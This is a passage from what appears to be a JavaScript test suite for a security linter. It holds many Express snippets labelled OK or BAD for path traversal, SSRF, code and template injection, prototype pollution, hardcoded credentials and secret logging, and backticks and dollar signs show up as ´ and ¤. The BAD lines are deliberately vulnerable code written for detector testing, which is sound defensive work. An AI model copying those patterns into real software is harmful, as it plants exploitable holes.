const crypto = require('crypto'); const bcrypt = require('bcrypt'); const winston = require('winston');
const logger = winston.createLogger({});
const express = require('express'); const app = express();
app.post('/login', async (req, res) => {
  const { username, password } = req.body;
  console.log('login', username); // OK secret-in-log
  console.log('login', { username }); // OK secret-in-log
  console.log(´password length ¤{password.length}´); // OK secret-in-log
  console.log('has password', !!password); // OK secret-in-log
  console.log('has password', Boolean(password)); // OK secret-in-log
  console.log('has password', password ? 'yes' : 'no'); // OK secret-in-log
  console.log('password is ' + (password === undefined ? 'missing' : 'set')); // OK secret-in-log
  console.log('type', typeof password); // OK secret-in-log
  console.log(password.replace(/./g, '*')); // OK secret-in-log
  console.log('*'.repeat(password.length)); // OK secret-in-log
  console.log(mask(password)); // OK secret-in-log
  console.log(redact(password)); // OK secret-in-log
  console.log(await bcrypt.hash(password, 10)); // OK secret-in-log
  console.log(crypto.createHash('sha256').update(password).digest('hex')); // OK secret-in-log
  const hashedPassword = await bcrypt.hash(password, 10); console.log(hashedPassword); // OK secret-in-log
  const passwordHash = sha(password); console.log(passwordHash); // OK secret-in-log
  const ok = await bcrypt.compare(password, user.hash); console.log(ok); // OK secret-in-log
  const isValid = checkPassword(password); console.log(isValid); // OK secret-in-log
  const { password: _p, ...rest } = req.body; console.log(rest); // OK secret-in-log
  const user = { name: username, password }; console.log(user.name); // OK secret-in-log
  delete user.password; console.log(user); // OK secret-in-log
  console.log('Please enter your password'); // OK secret-in-log
  console.log('password'); // OK secret-in-log
  const passwordPrompt = 'Password: '; console.log(passwordPrompt); // OK secret-in-log
  const passwordField = 'pw'; console.log(passwordField); // OK secret-in-log
  console.log(PASSWORD_MIN_LENGTH); // OK secret-in-log
  console.log(config.passwordPolicy); // OK secret-in-log
  console.log(process.env.NODE_ENV, process.env.PORT); // OK secret-in-log
  console.log(Object.keys(process.env)); // OK environment-leak
  console.log(Object.keys(process.env).length); // OK environment-leak
  console.log(tokenCount, tokens.length, maxTokens, nextPageToken); // OK secret-in-log
  console.log(getPassword); // OK secret-in-log
  console.log(errors.password); // OK secret-in-log
  console.log(publicKey); // OK secret-in-log
  console.log(apiKey.slice(0, 4) + '…'); // OK secret-in-log
  console.log(apiKey.substring(0, 3) + '***'); // OK secret-in-log
  console.log(encrypt(apiKey)); // OK secret-in-log
  console.log('key', apiKey != null); // OK secret-in-log
  logger.info('user %s logged in', username); // OK secret-in-log
  logger.error('failed', err.message); // OK secret-in-log
  console.log('password', password); // BAD secret-in-log
  console.log(´password: ¤{password}´); // BAD secret-in-log
  console.log(req.body.password); // BAD secret-in-log
  console.log({ username, password }); // BAD secret-in-log
  console.log(JSON.stringify({ username, password })); // BAD secret-in-log
  logger.debug('token ' + accessToken); // BAD secret-in-log
  console.log(process.env); // BAD environment-leak
  console.log(JSON.stringify(process.env)); // BAD environment-leak
  console.log(process.env.API_KEY); // BAD secret-in-log
  console.log(config.apiKey); // BAD secret-in-log
  console.error(authToken); // BAD secret-in-log
  try { x(); } catch (e) {
    res.status(500).send('Internal error'); // OK stack-trace
    res.status(500).json({ error: 'failed' }); // OK stack-trace
    res.status(500).send(e.message); // OK stack-trace
    console.error(e.stack); // OK secret-in-log
    logger.error(e); // OK secret-in-log
    res.status(500).send(e.stack); // BAD stack-trace
    res.status(500).json({ stack: e.stack }); // BAD stack-trace
    if (process.env.NODE_ENV !== 'production') res.send(e.stack); // OK stack-trace
  }
  localStorage.setItem('theme', theme); // OK secret-in-file
  localStorage.setItem('token', authToken); // BAD secret-in-file
  fs.writeFileSync('a', password); // BAD secret-in-file
  res.cookie('sid', sessionId); // OK secret-in-file
});
`),
    ).toEqual([]);
  });

  it('knows what keeps a path inside a folder', async () => {
    expect(
      await wrong(String.raw`
const express = require('express'); const app = express();
const fs = require('fs'); const fsp = require('fs/promises'); const path = require('path'); const sanitize = require('sanitize-filename'); const isPathInside = require('is-path-inside');
const ROOT = path.resolve(__dirname, 'public'); const root = '/srv/files';
app.get('/a', async (req, res) => {
  const p1 = path.resolve(ROOT, req.query.p); if (!p1.startsWith(ROOT + path.sep)) return res.status(403).end(); fs.readFile(p1, cb); // OK path-traversal
  const p2 = path.join(ROOT, req.query.p); if (!p2.startsWith(ROOT)) return; fs.readFileSync(p2); // OK path-traversal
  const p3 = path.normalize(path.join(ROOT, req.query.p)); if (p3.indexOf(ROOT) !== 0) throw new Error(); fs.readFileSync(p3); // OK path-traversal
  const rel = path.relative(ROOT, path.resolve(ROOT, req.query.q)); if (rel.startsWith('..') || path.isAbsolute(rel)) return; fs.readFileSync(path.join(ROOT, rel)); // OK path-traversal
  const p4 = path.resolve(ROOT, req.query.q); const rel4 = path.relative(ROOT, p4); if (rel4.startsWith('..') || path.isAbsolute(rel4)) return; fs.readFileSync(p4); // OK path-traversal
  const p5 = path.resolve(ROOT, req.query.q); const r5 = path.relative(ROOT, p5); if (r5 && !r5.startsWith('..') && !path.isAbsolute(r5)) { fs.readFileSync(p5); } // OK path-traversal
  fs.readFileSync(path.join(ROOT, path.basename(req.query.f))); // OK path-traversal
  fs.readFileSync(path.join(ROOT, sanitize(req.query.f))); // OK path-traversal
  const p6 = fs.realpathSync(path.resolve(ROOT, req.query.f)); if (!p6.startsWith(ROOT)) return; fs.readFileSync(p6); // OK path-traversal
  const p7 = await fsp.realpath(path.join(ROOT, req.query.f)); if (!p7.startsWith(ROOT + '/')) throw new Error('x'); await fsp.readFile(p7); // OK path-traversal
  const id = req.params.id; if (!/^[a-z0-9-]+$/i.test(id)) return; fs.readFileSync(´¤{root}/¤{id}.json´); // OK path-traversal
  const id2 = parseInt(req.params.id, 10); fs.readFileSync(´¤{root}/¤{id2}.json´); // OK path-traversal
  const files = { a: '/x/a', b: '/x/b' }; fs.readFileSync(files[req.query.k]); // OK path-traversal
  if (!['a.txt', 'b.txt'].includes(req.query.n)) return; fs.readFileSync(path.join(ROOT, req.query.n)); // OK path-traversal
  const n2 = req.query.n2; if (n2.includes('..') || n2.includes('/') || n2.includes('\\')) return; fs.readFileSync(path.join(ROOT, n2)); // OK path-traversal
  const n3 = req.query.n3; if (n3.indexOf('..') !== -1) return; fs.readFileSync(path.join(ROOT, n3)); // OK path-traversal
  const n4 = req.query.n4; if (n4.includes('..')) return; fs.readFileSync(ROOT + '/' + n4); // OK path-traversal
  if (!isPathInside(p1, ROOT)) return;
  const n5 = path.join(ROOT, req.query.n5); if (!isPathInside(n5, ROOT)) return; fs.readFileSync(n5); // OK path-traversal
  res.sendFile(req.query.f, { root: ROOT }); // OK path-traversal
  const n6 = req.query.n6.replace(/\.\./g, ''); fs.readFileSync(path.join(ROOT, n6)); // OK path-traversal
  const n7 = req.query.n7.replace(/[^\w-]/g, '_'); fs.readFileSync(path.join(ROOT, n7)); // OK path-traversal
  const n8 = path.normalize(req.query.n8).replace(/^(\.\.(\/|\\|$))+/, ''); fs.readFileSync(path.join(ROOT, n8)); // OK path-traversal
  const n9 = inside(ROOT, req.query.n9); fs.readFileSync(n9); // OK path-traversal
  const nA = checked(req.query.nA); fs.readFileSync(nA); // OK path-traversal
  assertInside(ROOT, path.join(ROOT, req.query.nB)); 
  const stat = fs.statSync(ROOT); fs.readFileSync(path.join(ROOT, stat.size + '.txt')); // OK path-traversal
  for (const f of fs.readdirSync(ROOT)) fs.readFileSync(path.join(ROOT, f)); // OK path-traversal
  const ext = path.extname(req.query.f); fs.writeFileSync(path.join(ROOT, 'upload' + ext), 'x'); // OK path-traversal
  fs.writeFileSync(path.join(ROOT, crypto.randomUUID() + '.png'), req.body); // OK path-traversal
  fs.readFileSync(req.query.p); // BAD path-traversal
  fs.readFileSync(path.join(ROOT, req.query.p)); // BAD path-traversal
  fs.readFileSync(´¤{root}/¤{req.query.p}´); // BAD path-traversal
  fs.readFileSync(root + req.query.p + '.txt'); // BAD path-traversal
  await fsp.unlink(path.resolve(ROOT, req.params.p)); // BAD path-traversal
  res.sendFile(path.join(ROOT, req.query.p)); // BAD path-traversal
  const b1 = path.resolve(ROOT, req.query.p); if (b1.startsWith('..')) return; fs.readFileSync(b1); // BAD path-traversal
  const b2 = req.query.b2; if (b2.startsWith('/')) return; fs.readFileSync(path.join(ROOT, b2)); // BAD path-traversal
  const b3 = path.normalize(req.query.b3); fs.readFileSync(path.join(ROOT, b3)); // BAD path-traversal
  const b4 = req.query.b4; if (b4.startsWith(ROOT)) fs.readFileSync(b4); // BAD path-traversal
  fs.createReadStream(decodeURIComponent(req.path)); // BAD path-traversal
  const up = req.files.up; fs.renameSync(up.path, path.join(ROOT, up.name)); // BAD path-traversal
});
function inside(base, p) { const full = path.resolve(base, p); if (!full.startsWith(base + path.sep)) throw new Error('outside'); return full; }
function checked(p) { const full = path.resolve(ROOT, p); const r = path.relative(ROOT, full); if (r.startsWith('..') || path.isAbsolute(r)) { throw new Error('outside'); } return full; }
`),
    ).toEqual([]);
  });

  it('tells credentials apart from their names and places', async () => {
    expect(
      await wrong(String.raw`
const jwt = require('jsonwebtoken'); const crypto = require('crypto'); const mysql = require('mysql'); const axios = require('axios'); const session = require('express-session'); const { S3 } = require('aws-sdk'); const OpenAI = require('openai'); const pg = require('pg'); const nodemailer = require('nodemailer');
jwt.sign({}, process.env.SECRET); // OK hardcoded-credential
jwt.sign({}, config.get('jwt.secret')); // OK hardcoded-credential
jwt.sign({}, fs.readFileSync('key.pem')); // OK hardcoded-credential
jwt.sign({}, getSecret()); // OK hardcoded-credential
jwt.sign({}, 'shhh'); // BAD hardcoded-credential
jwt.verify(t, 'shhh'); // BAD hardcoded-credential
mysql.createConnection({ host: 'x', user: 'root', password: process.env.DB_PASSWORD }); // OK hardcoded-credential
mysql.createConnection({ host: 'x', user: 'root', password: '' }); // OK hardcoded-credential
mysql.createConnection({ host: 'x', user: 'root', password: 'S3cr3t!x9' }); // BAD hardcoded-credential
new pg.Pool({ connectionString: process.env.DATABASE_URL }); // OK hardcoded-credential
new pg.Pool({ connectionString: 'postgres://localhost/db' }); // OK hardcoded-credential
new pg.Pool({ connectionString: 'postgres://admin:hunter2x9@db.prod.net/db' }); // BAD secret-in-source
nodemailer.createTransport({ auth: { user: 'a@b.c', pass: process.env.MAIL } }); // OK hardcoded-credential
nodemailer.createTransport({ auth: { user: 'a@b.c', pass: 'tZ9xq22Lp' } }); // BAD hardcoded-credential
new OpenAI({ apiKey: process.env.OPENAI_API_KEY }); // OK hardcoded-credential
new OpenAI({ apiKey: 'YOUR_API_KEY' }); // OK hardcoded-credential
new OpenAI({ apiKey: '<api key>' }); // OK hardcoded-credential
new OpenAI({ apiKey: 'xxxxxxxxxxxx' }); // OK hardcoded-credential
new OpenAI({ apiKey: '' }); // OK hardcoded-credential
new OpenAI({ apiKey: 'f83kd92ldkf93kd0s' }); // BAD hardcoded-credential
axios.get('https://x.y', { headers: { Authorization: ´Bearer ¤{token}´ } }); // OK hardcoded-credential
axios.get('https://x.y', { headers: { Authorization: 'Bearer <token>' } }); // OK hardcoded-credential
axios.get('https://x.y', { headers: { Authorization: 'Bearer ' + process.env.T } }); // OK hardcoded-credential
axios.get('https://x.y', { headers: { Authorization: 'Bearer 9f8a7d6c5b4e3f2a' } }); // BAD hardcoded-credential
axios.get('https://x.y', { auth: { username: 'a', password: 'kd93!kfL' } }); // BAD hardcoded-credential
axios.get('https://x.y', { headers: { 'x-api-key': 'kd93kfL02kd93kfL' } }); // BAD hardcoded-credential
fetch('https://x.y', { headers: { 'X-API-Key': 'kd93kfL02kd93kfL' } }); // BAD hardcoded-credential
crypto.createHmac('sha256', process.env.K); // OK hardcoded-credential
crypto.createHmac('sha256', 'abcdef123'); // BAD hardcoded-credential
crypto.createCipheriv('aes-256-gcm', 'abcdef123abcdef123abcdef123abcde', iv); // BAD hardcoded-credential
crypto.createCipheriv('aes-256-gcm', Buffer.from('abcdef123abcdef123abcdef123abcde'), iv); // BAD hardcoded-credential
crypto.createCipheriv('aes-256-gcm', crypto.randomBytes(32), iv); // OK hardcoded-credential
const password = 'password'; // OK named-credential
const passwordLabel = 'Enter your password'; // OK named-credential
const PASSWORD_FIELD = 'user_password'; // OK named-credential
const token = 'token'; // OK named-credential
const apiKeyHeader = 'x-api-key'; // OK named-credential
const tokenUrl = 'https://x.y/oauth/token'; // OK named-credential
const SECRET_NAME = 'prod/db/password'; // OK named-credential
const secretKey = process.env.SECRET_KEY || ''; // OK named-credential
const messages = { password: 'Must have 8 characters', token: 'Invalid token' }; // OK named-credential
const fields = { password: 'string', token: 'varchar' }; // OK named-credential
const env = { apiKey: 'OPENAI_API_KEY' }; // OK named-credential
const dbPassword = 'Xk29dk!0f'; // BAD named-credential
const aws = new S3({ accessKeyId: 'AKIAQX7RZ2LMN5TVWB4K', secretAccessKey: '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' }); // BAD secret-in-source
if (req.body.password === 'Sup3rS3cret') login(); // BAD named-credential
if (req.headers.authorization !== 'Bearer kd93kfL02kd') deny(); // BAD named-credential
if (req.body.password === '') deny(); // OK named-credential
if (type === 'password') show(); // OK named-credential
if (token === 'null') x(); // OK named-credential
`),
    ).toEqual([]);
  });

  it('knows what fixes the host of a request', async () => {
    expect(
      await wrong(String.raw`
const express = require('express'); const app = express(); const axios = require('axios'); const got = require('got'); const http = require('http'); const https = require('https'); const fetch2 = require('node-fetch'); const dns = require('dns'); const request = require('request');
const BASE = 'https://api.x.com'; const HOSTS = ['a.com', 'b.com'];
app.get('/a', async (req, res) => {
  await fetch(´¤{BASE}/items/¤{encodeURIComponent(req.query.id)}´); // OK ssrf
  await fetch(´https://api.x.com/items?q=¤{req.query.q}´); // OK ssrf
  await axios.get('https://api.x.com/items', { params: { q: req.query.q } }); // OK ssrf
  await axios.post('https://api.x.com/items', req.body); // OK ssrf
  await fetch('https://api.x.com', { method: 'POST', body: JSON.stringify(req.body) }); // OK ssrf
  const u = new URL('https://api.x.com/x'); u.searchParams.set('q', req.query.q); await fetch(u); // OK ssrf
  const u2 = new URL(req.query.u); if (!HOSTS.includes(u2.hostname)) return; await fetch(u2); // OK ssrf
  const u3 = new URL(req.query.u); if (u3.hostname !== 'a.com') throw new Error(); await fetch(u3.href); // OK ssrf
  const u4 = new URL(req.query.u); if (!HOSTS.includes(u4.host)) return; await fetch(req.query.u); // OK ssrf
  if (!req.query.v.startsWith('https://api.x.com/')) return; await fetch(req.query.v); // OK ssrf
  const map = { a: 'https://a.com', b: 'https://b.com' }; await fetch(map[req.query.k]); // OK ssrf
  if (!isAllowedUrl(req.query.w)) return; await fetch(req.query.w); // OK ssrf
  const id = Number(req.query.id); await fetch(´https://x.com/¤{id}´); // OK ssrf
  const u5 = new URL(´/v1/¤{req.query.x}´, 'https://api.x.com'); await fetch(u5); 
  const sub = req.query.sub; if (!/^[a-z]+$/.test(sub)) return; await fetch(´https://¤{sub}.x.com/´); // OK ssrf
  https.get({ hostname: 'api.x.com', path: '/q?' + req.query.q }); // OK ssrf
  await fetch(req.query.url); // BAD ssrf
  await fetch('https://' + req.query.host + '/x'); // BAD ssrf
  await fetch(´https://¤{req.query.sub}.x.com/´); // BAD ssrf
  await axios({ url: req.body.url }); // BAD ssrf
  await axios.get(req.body.url); // BAD ssrf
  await got(req.body.url); // BAD ssrf
  request(req.body.url, cb); // BAD ssrf
  http.get({ hostname: req.query.host }); // BAD ssrf
  http.request({ host: req.query.host, path: '/' }); // BAD ssrf
  await fetch(new URL(req.query.path, 'https://api.x.com')); // BAD ssrf
  await fetch(´http://localhost:¤{req.query.port}/´); // BAD ssrf
  const inst = axios.create({ baseURL: req.query.base }); await inst.get('/x'); // BAD ssrf
  axios.get('https://api.x.com.' + req.query.q); // BAD ssrf
});
`),
    ).toEqual([]);
  });

  it('tells code apart from data', async () => {
    expect(
      await wrong(String.raw`
const express = require('express'); const app = express(); const vm = require('vm'); const _ = require('lodash'); const ejs = require('ejs'); const pug = require('pug'); const hb = require('handlebars');
const handlers = { a() {}, b() {} }; const allowed = new Map([['a', () => 1]]);
app.get('/a', async (req, res) => {
  JSON.parse(req.body.x); // OK code-injection
  handlers[req.query.k]; // OK dynamic-method
  if (Object.hasOwn(handlers, req.query.k)) handlers[req.query.k](); // OK dynamic-method
  if (handlers.hasOwnProperty(req.query.k)) handlers[req.query.k](); // OK dynamic-method
  const fn = allowed.get(req.query.k); if (fn) fn(); // OK dynamic-method
  setTimeout(() => go(req.query.x), 10); // OK code-injection
  setTimeout(go, Number(req.query.ms)); // OK code-injection
  new Function('a', 'b', 'return a + b')(req.query.a, 1); // OK code-injection
  ejs.render('<%= x %>', { x: req.query.x }); // OK template-injection
  hb.compile('{{x}}')({ x: req.query.x }); // OK template-injection
  _.template('hi <%= x %>')({ x: req.query.x }); // OK template-injection
  if (['./a', './b'].includes(req.query.m)) require(req.query.m); // OK dynamic-import
  eval('1 + 1'); // OK code-injection
  eval(´¤{Number(req.query.n)} + 1´); // OK code-injection
  const mod = await import('./plugins/a.js'); // OK dynamic-import
  switch (req.query.l) { case 'de': await import(´./l/¤{req.query.l}.js´); } // OK dynamic-import
  vm.runInNewContext('x + 1', { x: 1 }); // OK code-injection
  eval(req.query.x); // BAD code-injection
  new Function(req.query.x)(); // BAD code-injection
  vm.runInThisContext(req.query.x); // BAD code-injection
  setTimeout(req.query.x, 1); // BAD code-injection
  setTimeout('go(' + req.query.x + ')', 1); // BAD code-injection
  require(req.query.m); // BAD dynamic-import
  await import(´./plugins/¤{req.query.m}.js´); // BAD dynamic-import
  ejs.render(req.query.t, {}); // BAD template-injection
  pug.compile(req.body.t); // BAD template-injection
  hb.compile(req.body.t); // BAD template-injection
  _.template(req.body.t); // BAD template-injection
  global[req.query.f](); // BAD dynamic-method
  eval('(' + JSON.stringify(req.body) + ')'); // BAD code-injection
  (0, eval)(req.query.x); // BAD code-injection
  const e = eval; e(req.query.x); // BAD code-injection
  [].constructor.constructor(req.query.x)(); // BAD code-injection
});
`),
    ).toEqual([]);
  });

  it('knows keys that cannot be __proto__', async () => {
    expect(
      await wrong(String.raw`
const express = require('express'); const app = express(); const _ = require('lodash');
function merge(a, b) { for (const k in b) { if (typeof b[k] === 'object') merge(a[k], b[k]); else a[k] = b[k]; } return a; } // BAD prototype-pollution
function merge2(a, b) { for (const k in b) { if (k === '__proto__' || k === 'constructor') continue; if (typeof b[k] === 'object') merge2(a[k], b[k]); else a[k] = b[k]; } return a; } // OK prototype-pollution
function merge3(a, b) { for (const k of Object.keys(b)) { if (['__proto__', 'constructor', 'prototype'].includes(k)) continue; if (typeof b[k] === 'object') merge3(a[k], b[k]); else a[k] = b[k]; } return a; } // OK prototype-pollution
function merge4(a, b) { for (const k in b) { if (Object.prototype.hasOwnProperty.call(a, k) && typeof b[k] === 'object') merge4(a[k], b[k]); else a[k] = b[k]; } return a; } // OK prototype-pollution
function shallow(a, b) { for (const k in b) a[k] = b[k]; return a; } // OK prototype-pollution
function set(o, p, v) { const ks = p.split('.'); for (let i = 0; i < ks.length - 1; i++) o = o[ks[i]]; o[ks[ks.length - 1]] = v; } // BAD prototype-pollution
const BANNED = new Set(['__proto__', 'constructor', 'prototype']);
function set2(o, p, v) { const ks = p.split('.'); if (ks.some((k) => BANNED.has(k))) throw new Error(); for (let i = 0; i < ks.length - 1; i++) o = o[ks[i]]; o[ks[ks.length - 1]] = v; } // OK prototype-pollution
function set3(o, p, v) { for (const k of p.split('.')) { if (BANNED.has(k)) return; o = o[k] ??= Object.create(null); } } // OK prototype-pollution
app.post('/a', (req, res) => {
  const cache = new Map(); cache.set(req.body.k, 1); // OK prototype-pollution
  const o = Object.create(null); o[req.body.k] = 1; // OK prototype-pollution
  const p = {}; if (req.body.k !== '__proto__') p[req.body.k] = {}; // OK prototype-pollution
  const data = { ...req.body }; // OK prototype-pollution
  Object.assign({}, req.body); // OK prototype-pollution
  const t = {}; t[req.body.a][req.body.b] = req.body.c; // BAD prototype-pollution
  _.merge({}, req.body); // BAD object-merge
  _.defaultsDeep({}, req.body); // BAD object-merge
  _.set(t, req.body.path, req.body.value); // BAD object-merge
  _.merge({}, { a: 1 }); // OK object-merge
  _.assign({}, { a: req.body.a }); // OK object-merge
});
`),
    ).toEqual([]);
  });
});
